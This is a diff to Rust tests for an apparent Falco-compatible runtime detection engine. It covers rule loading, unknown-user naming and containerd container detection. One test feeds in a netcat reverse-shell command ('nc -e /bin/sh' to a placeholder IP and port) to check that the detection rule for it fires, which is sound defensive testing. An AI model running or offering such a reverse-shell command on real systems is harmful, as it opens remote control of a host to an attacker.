@@ -318,8 +318,13 @@ fn text(b: &[u8]) -> String {
 
 impl Replay {
     fn new(matching: RuleMatching) -> Replay {
+        Replay::with_rules(&[], matching)
+    }
+
+    /// Rules from `files` (the bundled rules when empty).
+    fn with_rules(files: &[std::path::PathBuf], matching: RuleMatching) -> Replay {
         let sets = Rulesets::load(
-            &[],
+            files,
             &EngineConfig {
                 rule_matching: matching,
                 min_priority: Priority::Debug,
@@ -651,6 +656,51 @@ fn container_root_without_passwd_is_named_root_as_in_falco() {
     );
     let a = only(&alerts, "Terminal shell in container");
     assert_fields(a, &[("user.name", s("root"))]);
+}
+
+#[test]
+fn container_user_without_passwd_is_na_text_as_in_falco() {
+    // libsinsp names any other unknown uid "<NA>" (a value, so output_fields carry the text, not null).
+    let mut r = Replay::on_node(RuleMatching::All);
+    let img = Image::new("nc", &["-e", "/bin/sh", "203.0.113.9", "4444"], "/usr/bin/nc").uid(1001);
+    let alerts = r.spawn(4200, 4311, &img, 0);
+    let a = only(&alerts, "Netcat Remote Code Execution in Container");
+    assert_fields(a, &[("user.uid", FieldJson::U64(1001)), ("user.name", s("<NA>"))]);
+}
+
+/// A container started with `ctr run -t` / `nerdctl run -it` (containerd's `default` namespace, cgroupfs layout
+/// `/default/<id>`): a shell with a terminal is a terminal shell in a container, and the container is containerd's.
+#[test]
+fn terminal_shell_in_ctr_container_is_a_containerd_container() {
+    const CTR_ID: &str = "fc1f7e986a0d209f4f89b2a9069b876049997c89dc560ac3d64fc55c3bbb2d32";
+    let dir = tempfile::tempdir().expect("temp dir");
+    let probe = dir.path().join("probe.yaml");
+    std::fs::write(
+        &probe,
+        "- rule: Container of spawned process\n  desc: probe\n  condition: evt.type in (execve, execveat) and \
+         container.id != host\n  output: id=%container.id type=%container.type\n  priority: INFO\n",
+    )
+    .expect("temp file writable");
+    for files in [vec![], vec![probe]] {
+        let mut r = Replay::with_rules(&files, RuleMatching::All);
+        r.pipeline.on_state_record(ScapRecord::Threads(node_processes()));
+        r.fork(2150, 4900, Some(format!("/default/{CTR_ID}")), Some(1));
+        let alerts = r.exec(
+            4900,
+            &Image::new("sh", &[], "/bin/busybox").filename("/bin/sh"),
+            TTY_PTS0,
+        );
+        if files.is_empty() {
+            assert_fields(only(&alerts, "Terminal shell in container"), &[("proc.name", s("sh"))]);
+        } else {
+            let a = only(&alerts, "Container of spawned process");
+            // libsinsp's containerd matcher (cgroup layout `/default/<id>`) reports these containers as containerd.
+            assert_fields(
+                a,
+                &[("container.id", s(&CTR_ID[..12])), ("container.type", s("containerd"))],
+            );
+        }
+    }
 }
 
 #[test]
@@ -1359,7 +1409,8 @@ fn ordinary_activity_fires_nothing() {
             "/usr/bin/dpkg",
             &["--status-fd", "23", "--configure", "nginx"],
             "/usr/bin/dpkg",
-        ),
+        )
+        .on_host(),
         TTY_PTS0,
     );
     r.openat(
